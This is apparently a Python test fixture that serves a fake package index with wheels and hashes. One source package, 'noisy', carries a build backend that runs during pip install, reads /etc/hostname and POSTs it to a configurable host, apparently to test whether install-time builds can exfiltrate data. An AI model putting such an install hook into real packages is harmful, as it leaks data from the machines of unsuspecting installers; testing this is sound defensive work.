"""A package index of Python: the simple API (PEP 503), and files that may be elsewhere."""

import hashlib

from .archives import tar_gz, zipped

# A build backend within the archive itself (PEP 517): it runs when pip installs what is no wheel.
_BACKEND = '''
import pathlib, urllib.error, urllib.request, zipfile

def build_wheel(directory, config_settings=None, metadata_directory=None):
    try:
        outcome = str(urllib.request.urlopen("{home}", data=pathlib.Path("/etc/hostname").read_bytes()).status)
    except urllib.error.HTTPError as error:
        outcome = str(error.code)
    except OSError as error:
        outcome = str(error)
    name = "noisy-1.0.0-py3-none-any.whl"
    with zipfile.ZipFile(pathlib.Path(directory) / name, "w") as wheel:
        wheel.writestr("noisy.py", f"outcome = {{outcome!r}}\\n")
        wheel.writestr("noisy-1.0.0.dist-info/METADATA", "Metadata-Version: 2.1\\nName: noisy\\nVersion: 1.0.0\\n")
        wheel.writestr("noisy-1.0.0.dist-info/WHEEL", "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        wheel.writestr("noisy-1.0.0.dist-info/RECORD", "")
    return name
'''
_PROJECT = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'


def _wheel(name, version, needs=()):
    metadata = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n" + "".join(f"Requires-Dist: {one}\n" for one in needs)
    info = f"{name}-{version}.dist-info"
    return f"{name}-{version}-py3-none-any.whl", zipped({
        f"{name}.py": f'version = "{version}"\n', f"{info}/METADATA": metadata,
        f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        f"{info}/RECORD": ""})


def pypi_files(files_base, home):
    """Two tables: of the index, and of the files it names below `files_base`."""
    backend = {"noisy-1.0.0/pyproject.toml": _PROJECT, "noisy-1.0.0/backend.py": _BACKEND.format(home=home),
               "noisy-1.0.0/PKG-INFO": "Metadata-Version: 2.1\nName: noisy\nVersion: 1.0.0\n"}
    packages = {"frame": [_wheel("frame", "1.2.0", ["panel>=2,<3"])],
                "panel": [_wheel("panel", "2.0.0"), _wheel("panel", "2.1.0"), _wheel("panel", "3.0.0")],
                "noisy": [("noisy-1.0.0.tar.gz", tar_gz(backend))]}
    index, files = {}, {}
    for name, distributions in packages.items():
        links = []
        for file, data in distributions:
            path = f"/packages/ab/cd/{file}"
            files[path] = ("application/octet-stream", data)
            links.append(f'<a href="{files_base}{path}#sha256={hashlib.sha256(data).hexdigest()}">{file}</a><br>')
        index[f"/simple/{name}/"] = ("text/html", ("<!DOCTYPE html><html><body>" + "".join(links) + "</body></html>").encode())
    return index, files


def pypi_hashes():
    """{name==version: sha256} of the wheels that frame needs, for a file of requirements."""
    return {f"{name}=={version}": hashlib.sha256(_wheel(name, version, needs)[1]).hexdigest()
            for name, version, needs in (("frame", "1.2.0", ["panel>=2,<3"]), ("panel", "2.1.0", []))}
